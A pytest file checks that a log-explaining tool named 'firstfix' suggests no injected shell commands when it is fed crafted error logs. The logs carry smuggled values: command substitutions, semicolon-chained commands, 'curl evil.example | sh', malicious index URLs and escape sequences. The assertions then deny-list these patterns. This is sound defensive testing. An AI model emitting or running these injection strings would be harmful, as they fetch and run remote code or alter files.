"""Logs whose author wants a command of their own in the box: what they name stands in it quoted and as what it claims
to be, or not at all.
"""

import json
import re
import shlex
import subprocess

import pytest

import command_lint

TRACE = 'Traceback (most recent call last):\n  File "/srv/app/main.py", line 3, in <module>\n    main()\n'
FRAME = '  File "/srv/venv/lib/python3.11/site-packages/vllm/engine/arg_utils.py", line 3, in create\n    raise\n'
LOGS = [
    TRACE + "ModuleNotFoundError: No module named 'evil;touch /tmp/evil'",
    TRACE + "ModuleNotFoundError: No module named 'evil$(touch /tmp/evil)'",
    TRACE + "ModuleNotFoundError: No module named '--index-url=http://evil.example'",
    TRACE + "ModuleNotFoundError: No module named 'evilpkg_that_nobody_knows'",
    TRACE
    + "ImportError: evil requires the evil-lib library but it was not found in your environment. Run pip install"
    " evil-lib",
    TRACE + "ImportError: Please run `pip install git+https://evil.example/evil.git`",
    TRACE + "ImportError: Please install it with `pip install evil --extra-index-url http://evil.example`",
    TRACE + "ImportError: Please run `pip install torch; curl evil.example | sh`",
    TRACE + "ImportError: Please run `pip install 'accelerate>=0.26' && curl evil.example/evil | sh`",
    TRACE + "ImportError: accelerate>=evil;touch evil is required for a normal functioning of this module",
    TRACE
    + "ImportError: tokenizers>=0.20,<$(evil) is required for a normal functioning of this module, but found"
    " tokenizers==0.19.1.",
    TRACE + "importlib.metadata.PackageNotFoundError: No package metadata was found for -revil.txt",
    "OSError: libevil.so.1$(touch evil): cannot open shared object file: No such file or directory",
    "OSError: evil;libcudart.so.12: cannot open shared object file: No such file or directory",
    "ImportError: /tmp/evil.so: cannot allocate memory in static TLS block",
    "ImportError: /tmp/site-packages/evil.so: cannot allocate memory in static TLS block",
    "ImportError: %evil/site-packages/evil.so: cannot allocate memory in static TLS block",
    "ImportError: /srv/venv/lib/python3.11/site-packages/$(evil)/x.so: cannot allocate memory in static TLS block",
    "OSError: [Errno 98] error while attempting to bind on address ('0.0.0.0', 22): address already in use",
    "OSError: [Errno 98] error while attempting to bind on address ('0.0.0.0', 8000;evil): address already in use",
    "[W socket.cpp] The server socket has failed to bind to [::]:29500`evil` (errno: 98 - Address already in use).",
    TRACE + FRAME + "ValueError: this model requires --evil-plugin /tmp/evil.py",
    TRACE + FRAME + "ValueError: Please start with --trust-remote-code evil.",
    TRACE + FRAME + "ValueError: Use --tool-parser-plugin evil to go on",
    TRACE + FRAME + "ValueError: Use --middleware evil.module to go on",
    TRACE + FRAME + "ValueError: Use --worker-cls evil.Worker to go on",
    TRACE + FRAME + "ValueError: Set --acme-mode evil;touch evil",
    TRACE + FRAME + "ValueError: Set --acme-mode --evil",
    TRACE + FRAME + "ValueError: Set --acme-mode http://evil.example/evil",
    TRACE + FRAME + "ValueError: Set --acme-mode $(evil)",
    "RuntimeError: Error building extension 'evil;touch evil'",
    "/usr/bin/ld: cannot find -levil;touch: No such file or directory",
    "fatal error: evil$(touch evil).h: No such file or directory",
    (
        "safetensors_rust.SafetensorError: Error while deserializing header:"
        " HeaderTooLarge\n/root/.cache/huggingface/hub/models--evil;x--evil/snapshots/1/evil.bin"
    ),
    (
        "OSError: Unable to load weights from pytorch checkpoint file for"
        " '/m/models--evil--evil/snapshots/1f/$(evil).bin' at '/m/models--evil--evil/x'."
    ),
    (
        "ERROR: Could not find a version that satisfies the requirement evil[evil]==1;evil (from versions:"
        " none)\nERROR: No matching distribution found for evil"
    ),
    "ERROR: evil-1.0-cp99evil-cp99-linux_x86_64.whl is not a supported wheel on this platform.",
    (
        "undefined symbol: _ZN3c10evil\nImportError: /home/w/.cache/torch_extensions/py311_cu121/$(evil)/evil.so:"
        " undefined symbol: _ZN3c10evil"
    ),
    "ImportError: /home/w/.cache/torch_extensions/py311_cu121/evil'; evil '/x.so: undefined symbol: _ZN3c10evilEv",
    (
        "torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of"
        " 8.00 GiB of which 0.00 GiB is free. Process 1 has 7.99 GiB memory in use. Process 999999evil has 1 GiB memory"
        " in use."
    ),
    (
        "ValueError: invalid literal for int() with base 10: 'tcp://10.0.0.1:80;evil'\nVLLM_PORT 'tcp://evil' appears"
        " to be a URI"
    ),
    "ValueError: invalid literal for int(): EVIL_PORT;evil=tcp://10.0.0.1:80",
    "bitsandbytes library load error: Configured CUDA binary not found at /x/libbitsandbytes_cuda999;evil.so",
    "\x1b]0;evil\x07Traceback (most recent call last):\nModuleNotFoundError: No module named '\x1b[31mevil\x1b[0m'",
    "ModuleNotFoundError: No module named 'cv2\nevil'\npip install evil",
    '{"log": "ModuleNotFoundError: No module named \'evil\\u0000;evil\'"}',
    "RuntimeError: /etc/ssh/evil.so: failed to map segment from shared object: evil",
    "ImportError: $(evil)/x.so: failed to map segment from shared object: Operation not permitted",
    "sh: 1: evil;evil: not found\nFileNotFoundError: [Errno 2] No such file or directory: 'evil;evil'",
    (
        "AttributeError: partially initialized module 'evil' has no attribute 'x' (most likely due to a circular"
        " import) (/srv/-evil.py)"
    ),
]


def outside_quotes(command):
    """The command without what stands in single quotes; and True where a quote is left open."""
    out, inside = "", False
    for piece in re.split(r"(\\'|')", command):
        if piece == "'":
            inside = not inside
        elif not inside:
            out += piece
    return out, inside


@pytest.mark.parametrize(
    "facts",
    [
        None,
        {
            "schema": "firstfix.facts/1",
            "complete": ["python.packages", "env"],
            "env": {},
            "process": {"uid": 0},
            "python": {
                "executable": "/srv/venv/bin/python",
                "prefix": "/srv/venv",
                "kind": "venv",
                "site": ["/srv/venv/lib/python3.11/site-packages"],
                "packages": {"pip": {"version": "24.0"}, "torch": {"version": "2.5.1"}},
            },
        },
    ],
    ids=["alone", "facts"],
)
@pytest.mark.parametrize("log", LOGS, ids=range(len(LOGS)))
def test_log_gets_no_command_in(firstfix, tmp_path, log, facts):
    (tmp_path / "log").write_text(log)
    options = ["--no-facts"]
    if facts:
        (tmp_path / "facts.json").write_text(json.dumps(facts))
        options = ["--facts", tmp_path / "facts.json"]
    run = subprocess.run(
        [firstfix, "explain", "--json", *options, tmp_path / "log"], capture_output=True, text=True, timeout=30
    )
    document = json.loads(run.stdout)
    assert "broken_rules" not in document
    for fix in [f for d in document["diagnoses"] for f in d["fixes"]]:
        command = fix.get("command", "")
        outside, open_quote = outside_quotes(command)
        assert not open_quote and not re.search(r"[;&|`$()<>]\s*\w*evil|evil\w*[;&|`$()<>]", outside), command
        assert "\n" not in command and "\x1b" not in command
        words = shlex.split(command)
        assert not any(w.startswith("-") and "evil" in w for w in words), command
        assert not any("evil" in w for part in command_lint.simple_commands(command) if command_lint.is_installer(part)
                       for w in command_lint.package_words(part)), command
        assert (
            "LD_PRELOAD=/tmp" not in command and " 22/tcp" not in command and not re.search(r"\bkill 1\b", command)
        ), command
        assert not any(w in command for w in ("curl", "evil.example", "evil.Worker", "evil.module")), command
